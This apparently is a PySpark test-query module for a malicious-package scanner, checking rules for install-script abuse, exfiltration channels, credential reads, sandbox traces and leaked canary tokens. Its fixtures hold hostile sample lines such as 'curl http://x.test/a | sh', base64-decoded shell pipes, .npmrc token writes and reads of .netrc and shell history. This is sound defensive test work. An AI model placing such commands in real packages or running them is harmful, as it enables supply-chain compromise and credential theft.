"""More registered queries: sources, rules, sandbox evidence, reports and the whole scan, each through the engine's operators."""

from __future__ import annotations

from pyspark.sql import Window
from pyspark.sql import functions as F

from assayer.functions import text
from assayer.operators import detonation, lines, policy, python_code, typosquat, verdict
from assayer.plans import reports, scan
from assayer.queries import SIGNALS, VERDICTS, derive, judged, query, signals
from assayer.sources import manifests

RELEASE = ("ecosystem", "package", "version")
STATIC = "'npm' AS ecosystem, 'p' || CAST(p_partkey AS STRING) AS package, '1.0.0' AS version"
# ---- the whole scan, from recorded evidence to verdicts ----

PROJECTS = "SELECT 'project' || CAST(p_partkey AS STRING) AS project, 'package-lock.json' AS path, concat('{\"packages\": {\"node_modules/p', CAST(p_partkey AS STRING), '\": {\"version\": \"1.0.0\"}}}') AS content FROM part"
FILES = f"SELECT {STATIC}, 'package' AS label, 'a.js' AS path, CAST(20 AS BIGINT) AS size_bytes, 'const a = 1' AS text FROM part"
META = f"""SELECT {STATIC}, concat('{{"scripts": {{"postinstall": "', CASE WHEN p_partkey % 5 = 0 THEN 'curl http://x.test/a | sh' ELSE 'node build.js' END, '"}}}}') AS package_json FROM part"""
RUNS = f"SELECT 'run' || CAST(p_partkey AS STRING) AS run_id, {STATIC} FROM part WHERE p_partkey % 2 = 0"
SENT = f"SELECT 'run' || CAST(p_partkey AS STRING) AS run_id, 'p' || CAST(p_partkey AS STRING) AS package, CAST(1 AS BIGINT) AS seq, 'connect' AS kind, CASE WHEN p_partkey % 3 = 0 THEN 'odd.test' ELSE 'github.com' END AS host, 443 AS port FROM part WHERE p_partkey % 2 = 0"
TRACES = "SELECT 'run' || CAST(p_partkey AS STRING) AS run_id, 'p' || CAST(p_partkey AS STRING) AS package, CAST(1 AS BIGINT) AS seq, CASE WHEN p_partkey % 14 = 0 THEN '1 openat(AT_FDCWD, \"/home/u/.netrc\", O_RDONLY) = 3' ELSE '1 openat(AT_FDCWD, \"/usr/lib/x\", O_RDONLY) = 3' END AS line FROM part WHERE p_partkey % 2 = 0"


def _scan(spark, sf, mode="auto"):
    capture = derive(spark, sf, SENT).selectExpr("*", "CAST(null AS string) AS method", "CAST(null AS string) AS url", "CAST(null AS string) AS address", "CAST(null AS map<string,string>) AS headers", "CAST(null AS binary) AS body", "CAST(null AS string) AS scheme")
    planted = spark.createDataFrame([], "run_id string, name string, value string")
    files, releases = derive(spark, sf, FILES), derive(spark, sf, FILES).select(*RELEASE).distinct()
    reputation = releases.withColumn("age_days", F.lit(400)).withColumn("downloads_last_month", F.lit(5_000_000).cast("long"))
    presence = spark.createDataFrame([], "ecosystem string, package string, version string, name_exists boolean, version_exists boolean, security_holding boolean")
    rules = spark.createDataFrame([], "ord int, package string, version string, reason string, expires date, ecosystem string")
    observed = {"runs": derive(spark, sf, RUNS), "capture": capture, "canaries": planted, "lines": derive(spark, sf, TRACES), "states": None}
    return scan.scan(derive(spark, sf, PROJECTS), files, derive(spark, sf, META), reputation, presence, rules, F.to_date(F.lit("2026-01-01")), mode, observed)


RUNS_BADLY = "p_partkey % 2 = 0 AND (p_partkey % 3 = 0 OR p_partkey % 14 = 0)"


@query("scan_corroborated", f"""SELECT 'p' || p_partkey::VARCHAR AS package, CASE WHEN p_partkey % 5 = 0 AND {RUNS_BADLY} THEN 'malicious' WHEN p_partkey % 5 = 0 OR {RUNS_BADLY} THEN 'suspicious' ELSE 'clean' END AS verdict, p_partkey % 2 = 0 AS detonated,
  CASE WHEN p_partkey % 5 = 0 THEN '1 high or critical static signal(s)' ELSE 'established: 400 days old, 5000000 downloads a month' END AS decision_reason FROM part""")
def _(spark, sf):
    """Static rules and a recorded run of the same release: both together make it malicious."""
    return _scan(spark, sf)[0].select("package", "verdict", "detonated", "decision_reason")


@query("scan_detonate_only", f"SELECT 'p' || p_partkey::VARCHAR AS package, CASE WHEN p_partkey % 2 = 1 THEN 'unscanned' WHEN {RUNS_BADLY} THEN 'suspicious' ELSE 'clean' END AS verdict FROM part")
def _(spark, sf):
    return _scan(spark, sf, "detonate-only")[0].select("package", "verdict")


@query("scan_signals", f"""SELECT package, category, severity, detail FROM (SELECT 'p' || p_partkey::VARCHAR AS package, unnest([CASE WHEN p_partkey % 5 = 0 THEN 'lifecycle-script-abuse|high|postinstall' END, CASE WHEN p_partkey % 2 = 0 AND p_partkey % 3 = 0 THEN 'unexpected-network-destination|medium|HTTPS tunnel' END, CASE WHEN p_partkey % 14 = 0 THEN 'sensitive-file-access|high|/home/u/.netrc' END]) AS s,
  split_part(s, '|', 1) AS category, split_part(s, '|', 2) AS severity, split_part(s, '|', 3) AS detail FROM part) WHERE s IS NOT NULL""")
def _(spark, sf):
    return reports.evidence_rows(_scan(spark, sf)[1]).select("package", "category", "severity", "detail")


# ---- manifests ----

MANIFEST = """SELECT 's' || CAST(s_suppkey AS STRING) AS project, k AS kind, CASE k WHEN 0 THEN 'uv.lock' WHEN 1 THEN 'poetry.lock' WHEN 2 THEN 'Pipfile.lock' WHEN 3 THEN 'package.json' ELSE 'requirements.txt' END AS path,
  CASE k WHEN 0 THEN concat('[[package]]', chr(10), 'name = "Uv.Pkg"', chr(10), 'version = "', CAST(s_suppkey AS STRING), '"', chr(10), 'source = { registry = "r" }', chr(10), '[[package]]', chr(10), 'name = "own"', chr(10), 'version = "1"', chr(10), 'source = { editable = "." }')
  WHEN 1 THEN concat('[[package]]', chr(10), 'name = "poem"', chr(10), 'version = "', CAST(s_suppkey AS STRING), '"', chr(10), '[[package]]', chr(10), 'name = "git"', chr(10), 'version = "1"', chr(10), '[package.source]', chr(10), 'type = "git"')
  WHEN 2 THEN concat('{"default": {"Pip_Fil": {"version": "==', CAST(s_suppkey AS STRING), '"}}, "develop": {"loose": {"version": "*"}}}')
  WHEN 3 THEN concat('{"dependencies": {"a": "^', CAST(s_suppkey AS STRING), '", "b": "1"}, "devDependencies": {"a": "~2"}}')
  ELSE concat('-r more/extra.txt', chr(10), 'pinned==', CAST(s_suppkey AS STRING), chr(10), '-r ../outside.txt') END AS content
  FROM (SELECT s_suppkey, CAST(s_suppkey % 5 AS INT) AS k FROM supplier) AS s
  UNION ALL SELECT 's' || CAST(s_suppkey AS STRING), 9, 'more/extra.txt', concat('deep[x]>=', CAST(s_suppkey AS STRING), ' ; python_version > "3"') FROM supplier WHERE s_suppkey % 5 = 4
  UNION ALL SELECT 's' || CAST(s_suppkey AS STRING), 8, 'requirements.txt', 'shadowed==1' FROM supplier WHERE s_suppkey % 5 < 3"""


@query("manifest_kinds", """SELECT 's' || s_suppkey::VARCHAR AS project, split_part(d, ' ', 1) AS ecosystem, split_part(d, ' ', 2) AS name, split_part(d, ' ', 3) AS version FROM (SELECT s_suppkey, unnest(CASE s_suppkey % 5 WHEN 0 THEN ['pypi uv-pkg ' || s_suppkey::VARCHAR] WHEN 1 THEN ['pypi poem ' || s_suppkey::VARCHAR]
  WHEN 2 THEN ['pypi pip-fil ' || s_suppkey::VARCHAR] WHEN 3 THEN ['npm a ~2', 'npm b 1'] ELSE ['pypi pinned ' || s_suppkey::VARCHAR, 'pypi deep >=' || s_suppkey::VARCHAR] END) AS d FROM supplier)""")
def _(spark, sf):
    return manifests.resolve(derive(spark, sf, MANIFEST).drop("kind")).select("project", "ecosystem", "name", "version")


@query("manifest_uris", "SELECT 's' || s_suppkey::VARCHAR AS project, CASE s_suppkey % 5 WHEN 0 THEN 'uv.lock' WHEN 1 THEN 'poetry.lock' WHEN 2 THEN 'Pipfile.lock' WHEN 4 THEN 'requirements.txt' END AS uri, s_suppkey % 5 <> 3 AS has_python FROM supplier WHERE s_suppkey % 5 <> 3")
def _(spark, sf):
    files = derive(spark, sf, MANIFEST).drop("kind")
    python = manifests.has_python_manifest(files).withColumn("has_python", F.lit(True))
    return manifests.manifest_uri(files).join(python, "project", "left").where("has_python").select("project", "uri", "has_python")


@query("manifests_too_large", "SELECT doc_id::VARCHAR AS project FROM documents WHERE doc_id % 50 = 0")
def _(spark, sf):
    docs = spark.read.parquet(f"{sf}/documents.parquet").where("doc_id % 50 = 0 or doc_id % 50 = 1")
    big = F.when(F.col("doc_id") % 50 == 0, F.repeat(F.lit("x"), manifests.LARGEST + 1)).otherwise("{}")
    return manifests.oversized(docs.select(F.col("doc_id").cast("string").alias("project"), F.lit("uv.lock").alias("path"), big.alias("content"))).select("project")


@query("release_age", "SELECT o_orderkey, CASE WHEN o_orderkey % 10 = 3 THEN NULL ELSE date_diff('day', CAST(o_orderdate AS DATE), DATE '2030-01-01') END AS age_days FROM orders")
def _(spark, sf):
    orders = spark.read.parquet(f"{sf}/orders.parquet")
    published = F.when(F.col("o_orderkey") % 10 == 3, "yesterday").otherwise(F.date_format(F.col("o_orderdate").cast("date").cast("timestamp"), "yyyy-MM-dd'T'HH:mm:ss'Z'"))
    return orders.select("o_orderkey", manifests.age_days(published, F.lit("2030-01-01 00:00:00").cast("timestamp")).cast("long").alias("age_days"))


# ---- source trees and rules ----

PATHS = """SELECT doc_id, 'npm' AS ecosystem, 'd' || CAST(doc_id AS STRING) AS package, '1' AS version, 'sdist' AS label, CASE doc_id % 10 WHEN 0 THEN 'lib/a.js' WHEN 1 THEN 'node_modules/z/b.js' WHEN 2 THEN 'c.mjs' WHEN 3 THEN 'bin/run' WHEN 4 THEN 'readme.md' WHEN 5 THEN 'big.cjs' WHEN 6 THEN 'setup.py' WHEN 7 THEN '__pycache__/d.py' WHEN 8 THEN 'e.pth' ELSE 'sub/pyproject.toml' END AS path,
  CASE WHEN doc_id % 10 = 5 THEN CAST(2000001 AS BIGINT) WHEN doc_id % 20 = 6 THEN CAST(1500001 AS BIGINT) ELSE CAST(100 AS BIGINT) END AS size_bytes, text FROM documents"""
BINS = "SELECT 'npm' AS ecosystem, 'd' || CAST(doc_id AS STRING) AS package, '1' AS version, CASE WHEN doc_id % 10 = 3 THEN CASE WHEN doc_id % 20 = 3 THEN '{\"bin\": \"./bin/run\"}' ELSE '{\"bin\": {\"x\": \"bin/./run\", \"y\": \"../out\"}}' END WHEN doc_id % 10 = 4 THEN '{\"bundledDependencies\": [\"q\"]}' ELSE '{}' END AS package_json FROM documents"


@query("javascript_files", "SELECT doc_id FROM documents WHERE doc_id % 10 IN (0, 2, 3)")
def _(spark, sf):
    return lines.javascript_files(derive(spark, sf, PATHS), lines.bin_paths(derive(spark, sf, BINS))).select("doc_id")


@query("python_files", "SELECT doc_id FROM documents WHERE doc_id % 10 IN (8, 9) OR doc_id % 20 = 16")
def _(spark, sf):
    return python_code.within_limit(python_code.python_files(derive(spark, sf, PATHS))).select("doc_id")


@query("coverage_gaps", "SELECT package, what, excerpt FROM (SELECT 'd' || doc_id::VARCHAR AS package, CASE WHEN doc_id % 10 = 5 THEN 'over|big.cjs' WHEN doc_id % 10 = 1 THEN 'bundled|node_modules/' WHEN doc_id % 10 = 4 THEN 'bundled|[\"q\"]' WHEN doc_id % 20 = 6 THEN 'python|sdist:setup.py' END AS w, split_part(w, '|', 1) AS what, split_part(w, '|', 2) AS excerpt FROM documents) WHERE w IS NOT NULL")
def _(spark, sf):
    files = derive(spark, sf, PATHS)
    both = lines.coverage_gaps(files, derive(spark, sf, BINS)).unionByName(python_code.python_gaps(files))
    what = F.when(F.col("description").contains("Python"), "python").when(F.col("description").contains("source file"), "over").otherwise("bundled")
    return both.select("package", what.alias("what"), F.col("evidence")[0]["excerpt"].alias("excerpt"))


@query("lifecycle_abuse", "SELECT c_custkey, 'preinstall' AS step FROM customer WHERE c_custkey % 4 < 3")
def _(spark, sf):
    k = F.col("c_custkey") % 4
    command = F.when(k == 0, "wget -q http://h.test/x | bash").when(k == 1, "node -e 'go()'").when(k == 2, "echo aGk= | base64 --decode | sh").otherwise("tsc && node x.js")
    rows = spark.read.parquet(f"{sf}/customer.parquet").select(F.lit("npm").alias("ecosystem"), F.col("c_custkey").cast("string").alias("package"), F.lit("1").alias("version"), F.lit("preinstall").alias("step"), command.alias("command"))
    return lines.lifecycle_signals(rows).select(F.col("package").cast("long").alias("c_custkey"), F.col("evidence")[0]["detail"].alias("step"))


def _code(spark, sf, table, key, cases, *extra):
    """A release for each row of a table, whose source is the case of its key; (case number, text)."""
    rows = spark.read.parquet(f"{sf}/{table}.parquet")
    k = F.col(key) % len(cases)
    body = F.element_at(F.array(*(F.lit(c[0] if isinstance(c, tuple) else c) for c in cases)), (k + 1).cast("int"))
    return rows.select(F.lit("npm").alias("ecosystem"), F.col(key).cast("string").alias("package"), F.lit("1").alias("version"), *extra, body.alias("text"), k.alias("k"))


def _expected(table, key, cases):
    """SQL of (key, category) from the cases' categories."""
    arms = " ".join(f"WHEN {i} THEN [{', '.join(repr(x) for x in c[-1])}]" for i, c in enumerate(cases) if c[-1])
    return f"SELECT {key}, unnest(CASE {key} % {len(cases)} {arms} ELSE [] END) AS category FROM {table}"


JS_CASES = [
    ("see api.telegram.org/bot12/send", ("known-exfil-channel",)), ("see hooks.slack.com/services/T0", ("known-exfil-channel",)), ("see pastebin.com/raw/ab", ("known-exfil-channel",)), ("go http://10.1.2.3/x", ("known-exfil-channel",)), ("at abcdefghij234567.onion", ("known-exfil-channel",)),
    ("write(home + '/.npmrc', '_authToken=' + t)", ("npm-self-publish-behavior",)), ("npm unpublish thing", ("npm-self-publish-behavior",)), ("const k = process.env.AWS_SECRET_ACCESS_KEY", ("named-credential-env-read",)), ("for (const k in process.env) f(k)", ("bulk-env-enumeration",)),
    ("m = new Function(body)", ("eval-computed-arg",)), ("vm.runInContext(code, c)", ("eval-computed-arg",)), ("const s = '" + "abcdefghijklmnopqrstuvwxyz0123456789" * 3 + "'", ()), ("rx.exec(line)", ()), ("plain words", ()),
]


@query("javascript_more_rules", _expected("customer", "c_custkey", JS_CASES))
def _(spark, sf):
    found = lines.scan_javascript(_code(spark, sf, "customer", "c_custkey", JS_CASES, F.lit("a.js").alias("path")).drop("k"))
    return found.select(F.col("package").cast("long").alias("c_custkey"), "category")


PY_CASES = [
    ("setup.py", "def f():\n    pass\neval(given)", ("exec-computed-arg",)), ("widget/__init__.py", "def f():\n    eval(given)", ()), ("widget/__init__.py", "def f():\n    eval(given)\nf()", ("exec-computed-arg",)), ("widget/__init__.py", "class A:\n    eval(given)", ()),
    ("widget/__init__.py", "g = lambda: f()\ndef f():\n    eval(given)", ()), ("setup.py", "exec(open('x').read())", ()), ("setup.py", "import subprocess\nsubprocess.run(['sh', '-c', text])", ("command-exec-computed-arg",)), ("setup.py", "import subprocess\nsubprocess.run(['git', 'log', text])", ()),
    ("setup.py", "import os\nfor k in os.environ: f(k)", ("bulk-env-enumeration",)), ("x.pth", "import os; os.system('y')", ("pth-startup-code",)), ("x.pth", "import site", ()), ("setup.py", "print 'two'\nexec(b64decode(z))", ("obfuscated-exec",)),
    ("setup.py", "import socket\nsocket.create_connection(a)", ("install-time-network",)), ("docs/setup.py", "import socket\nsocket.create_connection(a)", ()), ("pyproject.toml", "[build-system]\nbuild-backend = 'odd.one'", ("custom-build-backend",)), ("sitecustomize.py", "x = 1", ("startup-hook-file",)),
    ("setup.py", "__import__(chr(111) + 's')", ("obfuscated-module-load",)),
]


@query("python_more_rules", _expected("customer", "c_custkey", PY_CASES))
def _(spark, sf):
    path = F.element_at(F.array(*(F.lit(c[0]) for c in PY_CASES)), (F.col("k") + 1).cast("int"))
    files = _code(spark, sf, "customer", "c_custkey", [c[1] for c in PY_CASES]).select(F.lit("pypi").alias("ecosystem"), "package", "version", F.lit("wheel").alias("label"), path.alias("path"), F.lit(10).alias("size_bytes"), "text")
    return python_code.scan_python(files).select(F.col("package").cast("long").alias("c_custkey"), "category")


@query("generated_files_are_no_mismatch", "SELECT 'p' || p_partkey::VARCHAR AS package, 'sitecustomize.py' AS excerpt FROM part WHERE p_partkey % 3 = 1")
def _(spark, sf):
    part = spark.read.parquet(f"{sf}/part.parquet").select(F.lit("pypi").alias("ecosystem"), F.concat(F.lit("p"), F.col("p_partkey").cast("string")).alias("package"), F.lit("1").alias("version"), (F.col("p_partkey") % 3).alias("k"))
    row = lambda df, label, path: df.select(*RELEASE, F.lit(label).alias("label"), path.alias("path"), F.lit(5).cast("long").alias("size_bytes"), F.lit("x = 1").alias("text"))
    wheel = row(part, "wheel", F.when(F.col("k") == 0, "back/_version.py").when(F.col("k") == 1, "sitecustomize.py").otherwise("back/plain.txt"))
    return python_code.mismatches(wheel.unionByName(row(part, "sdist", F.lit("readme.py")))).select("package", "excerpt")


@query("established_names", "SELECT c_custkey FROM customer WHERE c_custkey % 3 <> 0")
def _(spark, sf):
    k = F.col("c_custkey")
    rows = spark.read.parquet(f"{sf}/customer.parquet").select(F.lit("npm").alias("ecosystem"), k.cast("string").alias("package"), F.lit("1").alias("version"), F.lit("typosquat-candidate").alias("category"))
    known = spark.read.parquet(f"{sf}/customer.parquet").select(F.lit("npm").alias("ecosystem"), k.cast("string").alias("package"), F.lit("1").alias("version"), F.when(k % 3 == 0, 100_000).when(k % 3 == 1, 99_999).cast("long").alias("downloads_last_month"))
    return typosquat.drop_established(rows, known).select(F.col("package").cast("long").alias("c_custkey"))


@query("yanked_releases", "SELECT 'p' || p_partkey::VARCHAR AS package, 'p' || p_partkey::VARCHAR || '==1.0.0' AS excerpt FROM part WHERE p_partkey % 7 = 2")
def _(spark, sf):
    rows = derive(spark, sf, f"SELECT {STATIC}, p_partkey % 7 = 2 AS yanked FROM part").withColumn("ecosystem", F.lit("pypi"))
    return scan.yanked_signals(rows).select("package", F.col("evidence")[0]["excerpt"].alias("excerpt"))


# ---- sandbox evidence ----

@query("canary_form_leaks", "SELECT event_id, 'NPM_TOKEN' AS name FROM events WHERE event_id % 13 < 11")
def _(spark, sf):
    """Each of the 11 forms of a planted value, in a body, beside requests that carry none."""
    value = F.concat(F.lit("canary_"), F.md5(F.encode(F.col("event_id").cast("string"), "UTF-8")))
    events = spark.read.parquet(f"{sf}/events.parquet").select("event_id", value.alias("value"), F.col("event_id").cast("string").alias("run_id"))
    form = F.get(text.canary_forms("value"), (F.col("event_id") % 13).cast("int"))
    sent = events.select("event_id", "run_id", F.lit("p").alias("package"), F.col("event_id").alias("seq"), F.lit("http").alias("kind"), F.lit("h").alias("host"), F.lit("http://h/").alias("url"), F.lit(None).cast("map<string,string>").alias("headers"), F.encode(F.concat(F.lit("x="), F.coalesce(form, F.lit("none"))), "UTF-8").alias("body"))
    return detonation.leaks(sent, events.select("run_id", F.lit("NPM_TOKEN").alias("name"), "value")).select("event_id", "name")


@query("leaked_canaries", "SELECT user_id, event_id % 2 = 0 AS left FROM (SELECT user_id, min(event_id) AS event_id FROM events GROUP BY 1)")
def _(spark, sf):
    runs = spark.read.parquet(f"{sf}/events.parquet").groupBy("user_id").agg(F.min("event_id").alias("event_id")).select("user_id", "event_id", F.col("user_id").cast("string").alias("run_id"))
    planted = runs.select("run_id", F.lit("A").alias("name"), F.concat(F.lit("canary-of-"), "run_id", F.lit(".")).alias("value"))
    sent = runs.select("run_id", F.lit("p").alias("package"), F.lit(1).alias("seq"), F.lit("http").alias("kind"), F.lit("h").alias("host"), F.when(F.col("event_id") % 2 == 0, F.concat(F.lit("http://h/canary-of-"), "run_id", F.lit("."))).otherwise("http://h/").alias("url"), F.lit(None).cast("map<string,string>").alias("headers"), F.lit(None).cast("binary").alias("body"))
    return detonation.leaked_canaries(sent, planted).select(F.col("run_id").cast("long").alias("user_id"), (F.size("leaked") > 0).alias("left"))


ADDRESSES = [("93.184.216.34", True), ("10.0.0.1", False), ("169.254.169.254", False), ("::1", False), ("fe80::1%eth0", False), ("fd12::5", False), ("2606:4700::1111", True), ("::ffff:127.0.0.1", False), ("::ffff:8.8.8.8", True), ("2001:db8::1", False), ("ff02::1", False), ("64:ff9b::1", True), ("nowhere", None)]


@query("public_addresses", "SELECT c_custkey, CASE c_custkey % 13 " + " ".join(f"WHEN {i} THEN {str(p).upper()}" for i, (_, p) in enumerate(ADDRESSES) if p is not None) + " END AS public FROM customer")
def _(spark, sf):
    at = F.element_at(F.array(*(F.lit(a) for a, _ in ADDRESSES)), (F.col("c_custkey") % 13 + 1).cast("int"))
    return spark.read.parquet(f"{sf}/customer.parquet").select("c_custkey", text.public_address(at).alias("public"))


TRACE_CASES = [
    ('7 openat(AT_FDCWD, "/proc/44/environ", O_RDONLY) = 3', "sensitive-file-access|/proc/44/environ|medium"), ('7 openat(AT_FDCWD, "/proc/self/environ", O_RDONLY) = 3', None), ('7 openat(AT_FDCWD, "/root/.bash_history", O_RDONLY) = 3', "sensitive-file-access|/root/.bash_history|medium"),
    ('7 connect(4, {sa_family=AF_INET, sin_port=htons(8080), sin_addr=inet_addr("172.18.0.2")}, 16) = 0', None), ('7 connect(4, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.11")}, 16) = 0', None), ('7 connect(4, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("9.9.9.9")}, 16) = -1', "proxy-bypass-attempt|9.9.9.9:443|medium"),
    ('7 connect(4, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2606:4700::1111", &sin6_addr), sin6_scope_id=0}, 28) = -1', "proxy-bypass-attempt|2606:4700::1111:443|medium"), ('7 unlink("/trace/trace.log") = 0', "trace-interference|/trace/trace.log|medium"), ('7 execve("/usr/bin/uname", ["uname", "-a"], 0x7) = 0', None),
]


def _traces(spark, sf):
    line = F.element_at(F.array(*(F.lit(c) for c, _ in TRACE_CASES)), (F.col("event_id") % len(TRACE_CASES) + 1).cast("int"))
    return spark.read.parquet(f"{sf}/events.parquet").select(F.col("event_id").cast("string").alias("run_id"), F.lit("p").alias("package"), F.lit(1).cast("long").alias("seq"), line.alias("line"))


@query("trace_more_rules", "SELECT event_id, split_part(s, '|', 1) AS category, split_part(s, '|', 2) AS key, split_part(s, '|', 3) AS severity FROM (SELECT event_id, CASE event_id % 9 " + " ".join(f"WHEN {i} THEN '{w}'" for i, (_, w) in enumerate(TRACE_CASES) if w) + " END AS s FROM events) WHERE s IS NOT NULL")
def _(spark, sf):
    return detonation.trace_signals(_traces(spark, sf)).select(F.col("run_id").cast("long").alias("event_id"), "category", F.col("detail").alias("key"), "severity")


@query("trace_lists", "SELECT event_id, CASE event_id % 9 WHEN 5 THEN '9.9.9.9:443' WHEN 6 THEN '2606:4700::1111:443' ELSE '' END AS direct, CASE event_id % 9 WHEN 0 THEN 'open /proc/44/environ' WHEN 2 THEN 'open /root/.bash_history' ELSE '' END AS files, '' AS processes FROM events")
def _(spark, sf):
    joined = lambda c: F.coalesce(F.array_join(c, ", "), F.lit(""))
    return detonation.trace_summary(_traces(spark, sf)).select(F.col("run_id").cast("long").alias("event_id"), joined("direct_connects").alias("direct"), joined("files_of_interest").alias("files"), joined("processes").alias("processes"))


@query("traces_missing", "SELECT user_id FROM (SELECT DISTINCT user_id FROM events) WHERE user_id % 4 = 1")
def _(spark, sf):
    runs = spark.read.parquet(f"{sf}/events.parquet").select("user_id").distinct()
    run = F.col("user_id").cast("string").alias("run_id")
    rows = runs.where("user_id % 4 <> 1").select(run, F.lit("p").alias("package"), F.lit(1).cast("long").alias("seq"), F.lit('1 execve("/bin/x", ["x"], 0x0) = 0').alias("line"))
    states = runs.select(run, F.lit("p").alias("package"), F.lit(True).alias("requested"), (F.col("user_id") % 4 == 2).alias("unavailable"))
    return detonation.trace_signals(rows, states).where("detail = 'trace-missing'").select(F.col("run_id").cast("long").alias("user_id"))


RECORDS = "SELECT CAST(c_custkey AS STRING) AS run_id, 'npm install' AS scripts, CAST(c_custkey % 3 AS INT) AS exit_code, c_custkey % 5 = 0 AS timed_out, c_custkey / 7.0 AS seconds, CAST(30 + c_custkey % 2 AS INT) AS time_limit, 'out' AS stdout, '' AS stderr, c_custkey % 2 = 0 AS tls_inspected, false AS imports FROM customer"


@query("run_status_lines", "SELECT c_custkey, '- status: exit code ' || (c_custkey % 3)::VARCHAR || CASE WHEN c_custkey % 5 = 0 THEN ', timed out' ELSE '' END AS status, 4 AS n FROM customer")
def _(spark, sf):
    runs = derive(spark, sf, RECORDS).withColumn("seconds", F.col("seconds").cast("double"))
    capture = runs.select("run_id", F.lit("p").alias("package"), F.lit(1).cast("long").alias("seq"), F.lit("connect").alias("kind"), F.lit("github.com").alias("host"), F.lit(443).alias("port"), *(F.lit(None).cast(t).alias(c) for c, t in (("method", "string"), ("url", "string"), ("address", "string"), ("headers", "map<string,string>"), ("body", "binary"), ("scheme", "string"))))
    empty = spark.createDataFrame([], "run_id string, name string, value string")
    none = spark.createDataFrame([], "run_id string, package string, seq long, line string")
    shown = reports.run_section(detonation.run_records(runs, capture, empty, none))
    status = F.regexp_replace(F.max(F.when(F.col("line").startswith("- status"), F.col("line"))), r", [0-9.\\]+ s$", "")
    return shown.groupBy(F.col("run_id").cast("long").alias("c_custkey")).agg(status.alias("status"), F.count("*").cast("int").alias("n"))


@query("run_limits", "SELECT * FROM (VALUES (1), (2), (3), (4), (5), (6)) AS t(n)")
def _(spark, sf):
    return detonation.distinct_limits(derive(spark, sf, RECORDS)).select(F.row_number().over(Window.orderBy("limit_text")).alias("n"))


# ---- the same evidence as a stream ----

def _traffic(spark, sf):
    """The events as a stream of captured records."""
    from assayer.queries import _events_stream

    user = F.col("user_id").cast("string")
    kind = F.element_at(F.array(F.lit("http"), F.lit("connect"), F.lit("blocked")), (F.col("event_id") % 3 + 1).cast("int"))
    return _events_stream(spark, sf).select(F.concat(F.lit("run"), (F.col("user_id") % 20).cast("string")).alias("run_id"), F.lit("p").alias("package"), F.col("event_id").alias("seq"), kind.alias("kind"), F.when(F.col("event_id") % 5 == 0, F.concat(F.lit("odd"), (F.col("user_id") % 3).cast("string"), F.lit(".test"))).otherwise("github.com").alias("host"),
                                            F.concat(F.lit("http://h/?q="), F.when(F.col("event_id") % 7 == 0, F.concat(F.lit("secret-of-run"), (F.col("user_id") % 20).cast("string"), F.lit(";"))).otherwise(user)).alias("url"), F.lit(None).cast("map<string,string>").alias("headers"), F.lit(None).cast("binary").alias("body"))


@query("stream_run_state", """SELECT 'run' || (user_id % 20)::VARCHAR AS run_id, count(*) FILTER (WHERE event_id % 3 = 0) AS http, count(*) FILTER (WHERE event_id % 3 = 1) AS connect, count(*) FILTER (WHERE event_id % 3 = 2) AS blocked, max(event_id) AS last_seq,
  coalesce(array_to_string(list_sort(list(DISTINCT 'odd' || (user_id % 3)::VARCHAR || '.test') FILTER (WHERE event_id % 5 = 0 AND event_id % 3 <> 2)), ','), '') AS hosts FROM events GROUP BY 1""")
def _(spark, sf):
    from assayer.queries import _checkpoint
    from assayer.streaming.capture import drain, run_state

    out = drain(run_state(_traffic(spark, sf)), "runs", _checkpoint(spark), "complete")
    return out.select("run_id", "http", "connect", "blocked", "last_seq", F.array_join("unknown_hosts", ",").alias("hosts"))


@query("stream_planted_values", "SELECT 'run' || (user_id % 20)::VARCHAR AS run_id, event_id AS seq, 'TOKEN' AS name FROM events WHERE event_id % 3 = 0 AND event_id % 7 = 0 AND user_id % 20 < 10")
def _(spark, sf):
    from assayer.queries import _checkpoint
    from assayer.streaming.capture import drain, planted_values

    planted = spark.range(10).select(F.concat(F.lit("run"), F.col("id").cast("string")).alias("run_id"), F.lit("TOKEN").alias("name"), F.concat(F.lit("secret-of-run"), F.col("id").cast("string"), F.lit(";")).alias("value"))
    return drain(planted_values(_traffic(spark, sf), planted), "planted", _checkpoint(spark)).select("run_id", "seq", "name")


# ---- reports ----

def _shown(spark, sf):
    return signals(spark, sf).select("*", F.col("ord").cast("string").alias("id"), F.lit("d").alias("description"), F.array(text.piece(F.lit("e"), F.lit("a.js"), F.lit(3), F.lit("why"))).alias("evidence"))


@query("json_dossiers", f"SELECT j.package, j.version, j.verdict, j.ignored, count(s.ord) AS n, max(CASE WHEN s.ord IS NOT NULL THEN 'why' END) AS detail FROM ({VERDICTS}) j LEFT JOIN ({SIGNALS}) s USING (ecosystem, package, version) GROUP BY ALL")
def _(spark, sf):
    rows = reports.json_dossiers(judged(spark, sf).withColumn("ignore_reason", F.lit(None).cast("string")), _shown(spark, sf))
    body = F.from_json("json", "struct<verdict:string,ignored:boolean,signals:array<struct<evidence:array<struct<detail:string>>>>>").alias("b")
    return rows.select("package", "version", body).select("package", "version", "b.verdict", "b.ignored", F.size("b.signals").cast("long").alias("n"), F.get("b.signals", F.lit(0))["evidence"][0]["detail"].alias("detail"))


@query("markdown_sections", f"SELECT CASE WHEN ignored THEN 2 WHEN verdict = 'clean' THEN 3 ELSE 1 END AS section, count(*) AS packages FROM ({VERDICTS}) GROUP BY 1")
def _(spark, sf):
    rows = reports.markdown_lines(judged(spark, sf).withColumn("ignore_reason", F.lit(None).cast("string")), _shown(spark, sf))
    return rows.where("section > 0 and (section <> 1 or line like '## %')").groupBy("section").agg(F.count("*").alias("packages"))


@query("review_briefs", f"SELECT j.package, j.version, upper(j.verdict) AS verdict, j.scan_error IS NOT NULL AS unscanned, count(s.ord) AS n FROM ({VERDICTS}) j LEFT JOIN ({SIGNALS}) s USING (ecosystem, package, version) WHERE NOT j.ignored GROUP BY ALL HAVING j.verdict <> 'clean' OR n > 0")
def _(spark, sf):
    rows = reports.review_brief(judged(spark, sf), _shown(spark, sf), token="t")
    return rows.select("package", "version", F.regexp_extract("brief", "^verdict: ([A-Z]+)", 1).alias("verdict"), F.col("brief").contains("NOT SCANNED").alias("unscanned"), ((F.length("brief") - F.length(F.replace("brief", F.lit("<untrusted t>"), F.lit("")))) / 13).cast("long").alias("n"))


@query("analyst_budget", "SELECT package, count(*) FILTER (WHERE rank <= 20 AND p_partkey % 2 = 0) AS told FROM (SELECT p_size::VARCHAR AS package, p_partkey, row_number() OVER (PARTITION BY p_size ORDER BY p_partkey) AS rank FROM part) GROUP BY 1 HAVING told > 0")
